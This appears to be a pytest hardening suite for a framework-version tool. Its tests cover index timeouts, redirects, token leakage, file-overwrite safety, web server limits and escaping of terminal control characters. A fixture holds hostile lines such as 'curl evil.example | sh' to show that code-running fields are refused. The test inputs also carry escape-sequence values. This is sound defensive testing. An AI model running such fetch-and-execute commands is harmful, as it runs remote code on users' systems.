"""Hardening, round 3: the package index's shape and timing, redirects and credentials, the files
refresh edits, the state file, the web server's bounds, config at scale, what runs as code, and
messages that quote outside text.

Each test stands for one class of hostile input and failed before its fix. Time is bounded in
every test: a request that would hang runs in a thread joined with a deadline, and the fake
index ends its slow answers when the test closes it.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from fwtui import dataset, index, refresh
from fwtui.cli import main
from helpers import MINIMAL, ROOT, refreshed, wait_until
from index_server import Index, make_dataset

PROXIES = ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY", "no_proxy", "NO_PROXY")


def framework(package: str) -> Any:
    return dataset.load(MINIMAL, None).framework("alpha")._replace(package=package)


def within(seconds: float, work: Callable[[], Any]) -> tuple[Any, float]:
    """`work()`'s result and how long it took; fails (without waiting longer) if it takes more than `seconds`."""
    result: list[Any] = []
    started = time.monotonic()
    thread = threading.Thread(target=lambda: result.append(work()), daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still running after {seconds} s"
    return result[0], time.monotonic() - started


def index_threads() -> list[threading.Thread]:
    return [thread for thread in threading.enumerate() if thread.name.startswith("fwtui-index")]


# 1. Index answers: shape and timing ---------------------------------------------------------


def test_mixed_upload_time_zones_are_read(index_server: Index) -> None:
    report = refresh.check([framework("mixedzones")], index_server.url, 5.0)
    assert report.problems == ()
    assert {change.field: change.new for change in report.written}["latest_version"] == "6.1.3"


def test_a_dripping_header_cannot_hold_a_request_past_its_deadline(index_server: Index) -> None:
    report, seconds = within(8, lambda: refresh.check([framework("drip")], index_server.url, 2.0))
    assert [problem.error for problem in report.problems] == ["drip: timeout: no complete answer within 2 s"]
    assert seconds < 3.0


def test_cancelling_ends_requests_under_way(index_server: Index) -> None:
    cancel = threading.Event()
    threading.Timer(0.5, cancel.set).start()
    report, seconds = within(8, lambda: refresh.check([framework("drip"), framework("slow")], index_server.url, 30.0, cancel=cancel))
    assert {problem.error for problem in report.problems} == {"drip: cancelled", "slow: cancelled"}
    assert seconds < 1.5 and not index_threads()


def refresh_process(tmp_path: Path, url: str, *args: str) -> subprocess.Popen[str]:
    env = {**{k: v for k, v in os.environ.items() if k not in PROXIES}, "PYTHONPATH": str(ROOT / "src")}
    data = make_dataset(tmp_path, {"alpha": "drip"})
    return subprocess.Popen(
        [sys.executable, "-m", "fwtui", "refresh", "--data", str(data), "--index-url", url, *args],
        env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )


def test_one_ctrl_c_stops_refresh_promptly(tmp_path: Path, index_server: Index) -> None:
    process = refresh_process(tmp_path, index_server.url, "--timeout", "60")
    try:
        deadline = time.monotonic() + 30
        while not index_server.count("drip") and time.monotonic() < deadline:
            time.sleep(0.05)
        assert index_server.count("drip"), "refresh never asked the index"  # now waiting on the dripping header
        sent = time.monotonic()
        process.send_signal(signal.SIGINT)
        code = process.wait(timeout=10)
        assert time.monotonic() - sent < 1.5 and code == 130
    finally:
        process.kill()
        process.communicate()


async def test_quitting_during_the_palette_refresh_ends_its_requests(tmp_path: Path, index_server: Index, monkeypatch) -> None:
    from fwtui.app import FwtuiApp

    monkeypatch.setenv(index.ENV_INDEX_URL, index_server.url)
    app = FwtuiApp(dataset.load(make_dataset(tmp_path, {"alpha": "drip", "beta": "slow"}), None), state_file=tmp_path / "state.toml")
    async with app.run_test(size=(120, 40)) as pilot:
        app.action_refresh()
        await wait_until(pilot, lambda: bool(index_threads()) and index_server.count("drip") > 0, what="the requests under way")
        assert index_threads()  # the requests are under way
        await pilot.press("q")
    deadline = time.monotonic() + 1.0
    while index_threads() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not index_threads()


async def test_a_refresh_that_fails_unforeseen_leaves_the_explorer_running(tmp_path: Path, monkeypatch) -> None:
    from textual.widgets import Static

    from fwtui.app import FwtuiApp

    def broken(*args: Any, **kwargs: Any) -> None:
        raise TypeError("can't compare offset-naive and offset-aware datetimes")

    monkeypatch.setattr(refresh, "check", broken)
    app = FwtuiApp(dataset.load(MINIMAL, None), state_file=tmp_path / "state.toml")
    async with app.run_test(size=(120, 40)) as pilot:
        await refreshed(pilot)
        assert app.is_running
        status = str(app.screen.query_one("#refresh-status", Static).render())
        assert "the refresh failed (TypeError: can't compare" in status


# 2. Redirects and credentials -----------------------------------------------------------------


@pytest.mark.parametrize("package", ["redirect-ftp", "redirect-file"])
def test_a_redirect_to_another_scheme_is_refused(package: str, index_server: Index) -> None:
    report, _ = within(8, lambda: refresh.check([framework(package)], index_server.url, 2.0))
    assert len(report.problems) == 1 and "which is not an http(s) URL" in report.problems[0].error


def test_a_redirect_loop_ends(index_server: Index) -> None:
    report, _ = within(8, lambda: refresh.check([framework("redirect-loop")], index_server.url, 2.0))
    assert [problem.error for problem in report.problems] == ["redirect-loop: too many redirects, or one without a Location (HTTP 302)"]


def test_the_github_token_never_goes_to_another_origin(index_server: Index, monkeypatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "secret-token")
    api = index_server.url.removesuffix("/pypi")
    moved, _ = within(8, lambda: index.fetch_repository("example/moved", api, 2.0, use_cache=False))
    renamed, _ = within(8, lambda: index.fetch_repository("example/renamed", api, 2.0, use_cache=False))
    assert moved.stars == renamed.stars == 1234
    assert index_server.github == [
        ("/repos/example/moved", "Bearer secret-token"),
        ("/repos/example/alpha", None),  # at localhost: another origin than 127.0.0.1
        ("/repos/example/renamed", "Bearer secret-token"),
        ("/repos/example/alpha", "Bearer secret-token"),  # the same origin
    ]


# 3. Files fwtui edits keep what the user had ----------------------------------------------------


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def bundled_with_old_django(folder: Path, newline: str = "\n") -> Path:
    """The bundled dataset (its frameworks split by [explainer]) with Django's latest version one behind the index."""
    text = dataset.bundled_path().read_text(encoding="utf-8")
    django = text.index('id = "django"\n')
    version = text.index('latest_version = "', django)
    end = text.index("\n", version)
    text = text[:version] + 'latest_version = "6.1.2"' + text[end:]
    path = folder / "frameworks.toml"
    path.write_bytes(text.replace("\n", newline).encode("utf-8"))
    return path


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_apply_changes_only_the_lines_of_the_changed_facts(tmp_path: Path, capsys, index_server: Index, newline: str) -> None:
    import difflib

    pytest.importorskip("tomlkit")
    data = bundled_with_old_django(tmp_path, newline)
    before = data.read_bytes().splitlines(keepends=True)
    code, _, err = run(capsys, "refresh", "--data", str(data), "--index-url", index_server.url, "--apply", "django")
    assert code == 0, err
    after = data.read_bytes().splitlines(keepends=True)
    edits = [op for op in difflib.SequenceMatcher(None, before, after, autojunk=False).get_opcodes() if op[0] != "equal"]
    end = newline.encode()
    # The version's line, and Django's release source added after its last one (the test index is not pypi.org).
    assert [(tag, before[i1:i2], after[j1:j2]) for tag, i1, i2, j1, j2 in edits[:1]] == [
        ("replace", [b'latest_version = "6.1.2"' + end], [b'latest_version = "6.1.3"' + end])
    ]
    assert [(tag, i2 - i1) for tag, i1, i2, _, _ in edits[1:]] == [("insert", 0)]
    added = after[edits[1][3]:edits[1][4]]
    assert [line.split(b" = ")[0] for line in added] == [end, b"[[framework.sources]]" + end, b"group", b"url", b"checked", b"note"]
    assert all(line.endswith(end) for line in added)


def test_apply_through_a_symlink_edits_the_file_it_names(tmp_path: Path, capsys, index_server: Index) -> None:
    pytest.importorskip("tomlkit")
    real = make_dataset(tmp_path, {"alpha": "django"})
    link = tmp_path / "link.toml"
    link.symlink_to(real.name)
    code, _, err = run(capsys, "refresh", "--data", str(link), "--index-url", index_server.url, "--apply", "alpha")
    assert code == 0, err
    assert link.is_symlink() and 'latest_version = "6.1.3"' in real.read_text(encoding="utf-8")
    assert "through the link" in err


@pytest.mark.parametrize("name", ["frameworks.toml", "./sub/../frameworks.toml", "hard.toml"])
def test_output_naming_the_dataset_is_refused(tmp_path: Path, capsys, index_server: Index, monkeypatch, name: str) -> None:
    data = make_dataset(tmp_path, {"alpha": "django"})
    (tmp_path / "sub").mkdir()
    os.link(data, tmp_path / "hard.toml")
    before = data.read_bytes()
    monkeypatch.chdir(tmp_path)
    code, _, err = run(capsys, "refresh", "--data", str(data), "--index-url", index_server.url, "--output", name)
    assert code == 2 and "is the dataset itself" in err
    assert data.read_bytes() == before and index_server.requests == []


def test_output_dash_writes_the_overlay_to_stdout(tmp_path: Path, capsys, index_server: Index, monkeypatch) -> None:
    import tomllib

    data = make_dataset(tmp_path, {"alpha": "django"})
    monkeypatch.chdir(tmp_path)
    code, out, err = run(capsys, "refresh", "--data", str(data), "--index-url", index_server.url, "--output", "-", "alpha")
    assert code == 0, err
    assert not (tmp_path / "-").exists()
    assert tomllib.loads(out)["framework"][0]["latest_version"] == "6.1.3"
    assert "latest_version" in err  # the table of changes went to stderr


def test_a_refresh_toml_linked_to_the_dataset_is_not_written_over_it(hermetic: Path, index_server: Index, capsys) -> None:
    data = make_dataset(hermetic, {"alpha": "django"})
    (hermetic / "config").mkdir()
    (hermetic / "config" / dataset.REFRESH_NAME).symlink_to(data)
    before = data.read_bytes()
    code, _, err = run(capsys, "refresh", "--data", str(data), "--index-url", index_server.url, "alpha")
    assert code == 2 and "is the dataset itself" in err and data.read_bytes() == before


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b'version = 2\nmarked = ["from-the-future"]\n', "newer or unknown fwtui version"),
        (b"version = 1\nmarked = [", "damaged"),
        (b"version = 1\n# " + b"x" * (2 * 1024 * 1024) + b"\n", "limit"),
    ],
    ids=["newer", "damaged", "oversized"],
)
def test_a_state_file_fwtui_cannot_take_is_kept_aside_not_overwritten(tmp_path: Path, content: bytes, why: str) -> None:
    from fwtui.state import State, load_state, save_state

    path = tmp_path / "state.toml"
    path.write_bytes(content)
    state, problem = load_state(path)
    assert state == State() and problem is not None and why in problem
    kept = [entry for entry in tmp_path.iterdir() if entry.name.startswith("state.toml.") and entry.name.endswith(".bak")]
    assert len(kept) == 1 and kept[0].read_bytes() == content and kept[0].name in problem
    assert save_state(State(marked=("flask",)), path) is None  # the defaults go to a fresh file
    assert kept[0].read_bytes() == content


def test_a_state_file_that_cannot_be_moved_aside_is_never_saved_over(tmp_path: Path, monkeypatch) -> None:
    from fwtui.state import State, load_state, save_state

    path = tmp_path / "state.toml"
    path.write_bytes(b"version = 99\n")

    def refuse(*args: Any) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "rename", refuse)
    _, problem = load_state(path)
    assert problem is not None and "will not save over it" in problem
    saved = save_state(State(marked=("flask",)), path)
    assert saved is not None and "not overwritten" in saved
    assert path.read_bytes() == b"version = 99\n"


# 5. Config at scale -------------------------------------------------------------------------------


def test_ten_thousand_unknown_keymap_entries_make_one_warning_and_a_fast_start(tmp_path: Path) -> None:
    from fwtui.app import FwtuiApp
    from fwtui.config import load

    path = tmp_path / "config.toml"
    path.write_text("[keymap]\n" + "".join(f'"no.such.binding{n}" = "ctrl+{n % 10}"\n' for n in range(10_000)), encoding="utf-8")

    async def start() -> list[str]:
        app = FwtuiApp(dataset.load(MINIMAL, None), state_file=tmp_path / "state.toml", config=load(path))
        async with app.run_test(size=(100, 30)) as pilot:
            await pilot.pause()
            return [notice.message for notice in app._notifications]

    import asyncio

    messages, seconds = within(60, lambda: asyncio.run(start()))
    keymap = [message for message in messages if "keymap" in message]
    assert len(keymap) == 1, keymap
    assert '10,000 unknown binding ids ignored: "no.such.binding0", "no.such.binding1", "no.such.binding2" and 9,997 more' in keymap[0]
    assert seconds < 15


def test_unknown_settings_and_bad_entries_are_summarised(tmp_path: Path) -> None:
    from fwtui.config import load

    path = tmp_path / "config.toml"
    path.write_text("".join(f"extra{n} = 1\n" for n in range(500)) + "[keymap]\n" + "".join(f"b{n} = {n}\n" for n in range(500)),
                    encoding="utf-8")
    problems = load(path).problems
    assert len(problems) == 2
    assert "500 unknown settings ignored" in problems[0] and '"keymap.b0"' in problems[1] and "497 more" in problems[1]


# 4. The web server bounds one client's cost ------------------------------------------------------


def test_sizes_a_client_asks_for_are_bounded() -> None:
    from fwtui import web

    limit = (120, 40)
    assert web.bounded_size("100000", "100000", limit) == (120, 40)
    assert web.bounded_size(100, 30, limit) == (100, 30)
    assert web.bounded_size("-5", 0, limit) == (1, 1)
    assert web.bounded_size("wide", None, limit) == (80, 24)
    assert web.bounded_size(10**400, float("inf"), limit) == (120, 24)
    assert web.parse_size("500x200") == (500, 200)
    for bad in ("500", "x200", "10x2", "0x0", "99999x99999"):
        with pytest.raises(ValueError):
            web.parse_size(bad)


async def test_a_resize_beyond_the_bound_reaches_the_app_cut() -> None:
    pytest.importorskip("textual_serve")
    from fwtui import web

    class Session:
        def __init__(self) -> None:
            self.sizes: list[tuple[int, int]] = []

        async def set_terminal_size(self, width: int, height: int) -> None:
            self.sizes.append((width, height))

    session = Session()
    web._bound_resizes(session, (500, 200))
    await session.set_terminal_size(100_000, 100_000)
    await session.set_terminal_size(90, 30)
    assert session.sizes == [(500, 200), (90, 30)]


def _free_port() -> int:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _children(pid: int) -> list[int]:
    """Live processes whose parent is `pid` (Linux /proc); a zombie has ended."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            stat = (entry / "stat").read_text() if entry.name.isdigit() else ""
        except OSError:
            continue
        if stat:
            state, parent = stat.rsplit(")", 1)[1].split()[:2]
            if int(parent) == pid and state not in ("Z", "X"):
                found.append(int(entry.name))
    return found


@pytest.fixture
def web_server() -> Iterator[tuple[subprocess.Popen[bytes], int]]:
    pytest.importorskip("textual_serve")
    if not sys.platform.startswith("linux"):
        pytest.skip("reads the process table from /proc")
    import urllib.request

    port = _free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "fwtui", "--data", str(MINIMAL), "serve", "--port", str(port), "--max-sessions", "2", "--max-size", "120x40"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and process.poll() is None:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2):
                    break
            except OSError:
                time.sleep(0.2)
        assert process.poll() is None
        yield process, port
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait(timeout=10)


async def _session(client: Any, port: int, size: str = "width=100&height=30") -> Any:
    import asyncio

    import aiohttp

    ws = await client.ws_connect(f"http://127.0.0.1:{port}/ws?{size}")
    drawn = b""
    while b"of 3" not in drawn:  # the app has drawn its list
        message = await asyncio.wait_for(ws.receive(), 30)
        assert message.type in (aiohttp.WSMsgType.BINARY, aiohttp.WSMsgType.TEXT), message
        drawn += message.data if message.type == aiohttp.WSMsgType.BINARY else b""
    return ws


@pytest.mark.slow
async def test_serve_caps_sessions_and_terminal_size_and_ends_an_app_when_its_socket_closes(web_server) -> None:
    import asyncio

    import aiohttp

    process, port = web_server
    async with aiohttp.ClientSession() as client:
        huge = await _session(client, port, "width=100000&height=100000")
        [app] = _children(process.pid)
        environment = dict(item.split(b"=", 1) for item in Path(f"/proc/{app}/environ").read_bytes().split(b"\0") if b"=" in item)
        assert (environment[b"COLUMNS"], environment[b"ROWS"]) == (b"120", b"40")
        second = await _session(client, port)
        with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
            await client.ws_connect(f"http://127.0.0.1:{port}/ws?width=80&height=24")
        assert refused.value.status == 503
        async with client.get(f"http://127.0.0.1:{port}/") as page:  # the page says so, where a browser shows it
            assert page.status == 503 and "2 sessions are open" in await page.text()
        assert len(_children(process.pid)) == 2
        # An app that cannot answer the quit textual-serve sends when its socket closes.
        os.kill(app, signal.SIGSTOP)
        await huge.close()
        deadline = time.monotonic() + 8
        while app in _children(process.pid) and time.monotonic() < deadline:
            await asyncio.sleep(0.1)
        assert app not in _children(process.pid)
        await _session(client, port)  # the freed place takes a new session
        await second.close()


# 6. What runs as code never comes from refresh.toml ------------------------------------------------

HOSTILE_REFRESH = """\
[[framework]]
id = "alpha"
latest_version = "9.0"
hello = { install = ["evil"], code = "import os", file = "app.py", run = "curl evil.example | sh", url = "http://127.0.0.1:8000/" }
bench = { packages = ["evil"], code = "import os", server = "sh -c 'curl evil.example | sh'" }
"""


def test_refresh_toml_cannot_carry_fields_that_run_as_code(hermetic: Path, capsys) -> None:
    (hermetic / "config").mkdir()
    (hermetic / "config" / dataset.REFRESH_NAME).write_text(HOSTILE_REFRESH, encoding="utf-8")
    notices: list[str] = []
    alpha = dataset.load(MINIMAL, None, notices).framework("alpha")
    assert alpha.latest_version == "9.0"  # the facts it may carry are taken
    assert "curl" not in alpha.hello.run and "curl" not in alpha.bench.server and "evil" not in alpha.bench.packages
    assert len(notices) == 1 and 'bench and hello of "alpha" ignored: fields that run as code' in notices[0]
    code, _, err = run(capsys, "--data", str(MINIMAL), "list")
    assert code == 0 and "warning:" in err and "fields that run as code" in err


def test_refresh_never_writes_code_fields_it_finds_in_an_old_refresh_toml(hermetic: Path, index_server: Index, capsys) -> None:
    import tomllib

    (hermetic / "config").mkdir()
    overlay = hermetic / "config" / dataset.REFRESH_NAME
    overlay.write_text(HOSTILE_REFRESH, encoding="utf-8")
    data = make_dataset(hermetic, {"beta": "django"})
    code, _, err = run(capsys, "refresh", "--data", str(data), "--index-url", index_server.url, "beta")
    assert code == 0, err
    written = tomllib.loads(overlay.read_text(encoding="utf-8"))
    assert [record["id"] for record in written["framework"]] == ["alpha", "beta"]
    assert all(field not in record for record in written["framework"] for field in dataset.CODE_FIELDS)


def test_bench_help_says_its_fields_run_as_code(capsys) -> None:
    with pytest.raises(SystemExit):
        main(["bench", "--help"])
    assert "run as code" in " ".join(capsys.readouterr().out.split())


# 7. Messages quote outside text with its control characters escaped ----------------------------------

RAW_CONTROL = ("\x1b", "\x07", "\u202e")


def test_an_index_answer_quoted_in_a_message_is_escaped(tmp_path: Path, index_server: Index, capsys) -> None:
    data = make_dataset(tmp_path, {"alpha": "redirect-escape"})
    code, _, err = run(capsys, "refresh", "--data", str(data), "--index-url", index_server.url, "alpha", "--timeout", "2")
    assert code == 1 and "which is not an http(s) URL" in err and "\\x1b]52" in err
    assert not any(c in err for c in RAW_CONTROL)


def test_file_names_and_config_keys_quoted_in_messages_are_escaped(tmp_path: Path, index_server: Index, capsys) -> None:
    from fwtui.config import load

    folder = tmp_path / "da\x1b[2Jta\u202e"
    folder.mkdir()
    (folder / "config.toml").write_text('"unknown\\u202ekey" = 1\n[keymap]\n"x\\u202e" = ""\n', encoding="utf-8")
    problems = load(folder / "config.toml").problems
    assert problems and all("\\x1b[2J" in problem for problem in problems)
    assert not any(c in problem for problem in problems for c in RAW_CONTROL)
    pytest.importorskip("tomlkit")
    data = make_dataset(folder, {"alpha": "django"})
    code, _, err = run(capsys, "refresh", "--data", str(data), "--index-url", index_server.url, "alpha", "--apply")
    assert code == 0 and "updated" in err and "\\x1b[2J" in err
    assert not any(c in err for c in RAW_CONTROL)



def test_framework_blocks_end_only_at_table_headers() -> None:
    import tomllib

    text = (
        '[[framework]]\nid = "a"\nx = [\n  ["p", "q"],\n  ["r"]\n]\nnote = """\n[not a header]\n"""\n'
        's = "x[" # [\n[framework.stars]\ncount = 1\n\n[other]\nk = 1\n\n[[framework]]\nid = "b"\n'
    )
    blocks = [text[start:end] for start, end in refresh.framework_blocks(text)]
    assert [tomllib.loads(block)["framework"][0]["id"] for block in blocks] == ["a", "b"]
    assert tomllib.loads(blocks[0])["framework"][0]["stars"] == {"count": 1} and "[other]" not in blocks[0]
